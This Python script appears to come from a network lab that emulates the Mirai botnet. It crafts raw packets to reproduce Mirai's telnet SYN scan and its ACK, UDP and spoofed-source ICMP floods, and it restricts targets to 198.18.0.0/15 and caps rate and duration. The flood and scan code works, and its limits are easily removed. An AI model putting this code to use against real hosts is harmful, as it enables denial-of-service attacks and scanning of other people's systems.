#!/usr/bin/env python3
"""Mirai's raw-packet parts for the live lab (Node has no raw sockets).

  raw.py scan --src IP --block CIDR [--also IP,...] --count N --pps R --seconds S
      telnet SYN scan as Mirai's scanner.c sends it: seq = destination address, destination port 23 nine times in
      ten else 2323, random source port, IP id and window, TTL 64, no TCP options. Destinations are random
      addresses of --block (the lab's internet namespace answers all of them) and, one in --also-every, a LAN host.
  raw.py ack --src IP --target IP --count N --pps R --seconds S
      Mirai's "ack" flood: ACK with random sequence and acknowledgement numbers, random ports, 512 random bytes.
  raw.py udp --src IP --target IP --count N --pps R --seconds S
      Mirai's "udp" (generic) flood: random source and destination port per packet, 512 random bytes.
  raw.py icmp --spoof-block CIDR --target IP --count N --pps R --seconds S
      ICMP echo flood from random source addresses of --spoof-block (the lab's internet block, so the victim's
      replies stay in the lab), 56-byte payload as ping sends.

Bounded by --count and --seconds; refuses destinations outside 198.18.0.0/15.
"""
import argparse, ipaddress, os, random, socket, struct, sys, time

LAB = ipaddress.ip_network('198.18.0.0/15')


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def packet(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int, window: int, payload: bytes) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, window, 0, 0) + payload
    pseudo = s + d + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, total, random.getrandbits(16), 0, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + tcp


def udp_packet(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    udp = struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload
    c = checksum(s + d + struct.pack('!BBH', 0, 17, len(udp)) + udp) or 0xffff
    udp = udp[:6] + struct.pack('!H', c) + udp[8:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0, s, d)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + udp


def icmp_packet(src: str, dst: str, ident: int, seq: int) -> bytes:
    icmp = struct.pack('!BBHHH', 8, 0, 0, ident, seq) + os.urandom(56)
    icmp = icmp[:2] + struct.pack('!H', checksum(icmp)) + icmp[4:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(icmp), random.getrandbits(16), 0, 64, 1, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + icmp


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument('mode', choices=['scan', 'ack', 'udp', 'icmp'])
    p.add_argument('--src')
    p.add_argument('--spoof-block')
    p.add_argument('--block')
    p.add_argument('--also', default='')
    p.add_argument('--also-every', type=int, default=40)
    p.add_argument('--target')
    p.add_argument('--count', type=int, required=True)
    p.add_argument('--pps', type=float, required=True)
    p.add_argument('--seconds', type=float, required=True)
    a = p.parse_args()
    if a.count > 1_000_000 or a.pps > 50_000 or a.seconds > 120:
        print('raw.py: --count ≤ 1e6, --pps ≤ 50000, --seconds ≤ 120', file=sys.stderr)
        return 2
    block = ipaddress.ip_network(a.block) if a.block else None
    spoof = ipaddress.ip_network(a.spoof_block) if a.spoof_block else None
    if (a.mode == 'icmp') != (spoof is not None) or (a.mode != 'icmp' and not a.src):
        print('raw.py: icmp takes --spoof-block, the other modes --src', file=sys.stderr)
        return 2
    if spoof and not spoof.subnet_of(LAB):
        print(f'raw.py: --spoof-block {spoof} is outside the lab (198.18.0.0/15)', file=sys.stderr)
        return 2
    also = [x for x in a.also.split(',') if x]
    for addr in [a.target, *also] + ([str(block.network_address), str(block.broadcast_address)] if block else []):
        if addr and ipaddress.ip_address(addr) not in LAB:
            print(f'raw.py: {addr} is outside the lab (198.18.0.0/15)', file=sys.stderr)
            return 2
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    sent = 0
    while sent < a.count and time.monotonic() - start < a.seconds:
        if a.mode == 'scan':
            if also and sent % a.also_every == 0:
                dst = random.choice(also)
            else:
                dst = str(block.network_address + random.randrange(1, block.num_addresses - 1))
            dport = 23 if random.random() < 0.9 else 2323
            seq = struct.unpack('!I', socket.inet_aton(dst))[0]
            pkt = packet(a.src, dst, random.randrange(1024, 65536), dport, seq, 0, 0x02, random.getrandbits(16), b'')
        elif a.mode == 'icmp':
            dst = a.target
            src = str(spoof.network_address + random.randrange(1, spoof.num_addresses - 1))
            pkt = icmp_packet(src, dst, random.getrandbits(16), sent & 0xffff)
        elif a.mode == 'udp':
            dst = a.target
            pkt = udp_packet(a.src, dst, random.getrandbits(16), random.getrandbits(16), os.urandom(512))
        else:
            dst = a.target
            pkt = packet(a.src, dst, random.getrandbits(16), random.getrandbits(16), random.getrandbits(32), random.getrandbits(32), 0x10, random.getrandbits(16), os.urandom(512))
        try:
            sock.sendto(pkt, (dst, 0))
        except OSError:
            pass  # no route / buffer full: the bot keeps going, as Mirai does
        sent += 1
        wait = start + sent / a.pps - time.monotonic()
        if wait > 0:
            time.sleep(wait)
    print(f'raw.py {a.mode}: {sent} packets in {time.monotonic() - start:.1f} s')
    return 0


if __name__ == '__main__':
    sys.exit(main())
